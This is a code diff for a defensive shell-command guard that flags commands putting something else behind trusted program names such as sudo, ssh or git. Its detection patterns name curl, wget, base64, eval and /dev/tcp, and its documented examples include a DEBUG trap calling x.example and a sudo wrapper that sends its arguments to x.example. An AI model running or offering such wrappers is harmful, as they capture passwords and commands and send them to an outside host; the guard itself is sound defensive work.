@@ -1,25 +1,39 @@
+import { isCall, names } from '../../core/calls.ts'
 import { defineDocs, defineGuard } from '../../core/define.ts'
+import { isListed } from '../../core/sources.ts'
+import { command } from '../../shell/command.ts'
+import type { Invocation } from '../../shell/script.ts'
 
 export default defineGuard({
   id: 'process/shadowed-program',
-  on: 'command',
+  on: 'script',
   verdict: 'ask',
   level: 'high',
   says: 'This puts something else behind the name of a program.',
   instead: ["alias ll='ls -la'"],
-  calls: `
+  check: ({ invocations, defines = [] }) =>
+    defines.some(name => isListed(programs, name)) || invocations.some(shadows),
+})
+
+/** Programs that people trust by their name, and names that the shell itself calls. */
+const programs =
+  ' sudo su doas ssh scp sftp git gh curl wget docker kubectl npm npx pip pip3 python python3 node rm cp mv ls cat cd make gpg aws op pass vault passwd login command_not_found_handle command_not_found_handler '
+
+const calls = `
     alias @sudo=*|su=*|ssh=*|git=*|npm=*|make=*|curl=*|cd=*|ls=*=*|docker=*|kubectl=*|rm=*|*=*curl*|*=*wget*|*=*base64*|*=*eval*|*=*/dev/tcp*
     complete -C
     trap ** DEBUG|RETURN|ERR
     hash -p
     bind -x
     mapfile|readarray -C
-  `,
-  check: command =>
-    command.name !== 'trap' ||
-    !/^(exit|echo|cleanup|true|:)?\b/.test(command.operands()[0] ?? '') ||
-    command.operands().includes('DEBUG'),
-})
+`
+
+const shadows = (invocation: Invocation): boolean => {
+  if (!names(calls, invocation.name) || !isCall(command(invocation), calls)) return false
+  if (invocation.name !== 'trap') return true
+  const [handler = '', ...signals] = command(invocation).operands()
+  return !/^(exit|echo|cleanup|true|:)?\b/.test(handler ?? '') || signals.includes('DEBUG')
+}
 
 export const docs = defineDocs({
   since: '0.2.0',
@@ -29,6 +43,7 @@ export const docs = defineDocs({
     "alias sudo='x'",
     'complete -C /tmp/x git',
     "trap 'curl x.example' DEBUG",
+    'sudo() { curl x.example/?p="$1"; command sudo "$@"; }',
   ],
   allows: ["alias ll='ls -la'", "trap 'rm -f lock' EXIT", 'echo "complete -C /tmp/x git"'],
 })
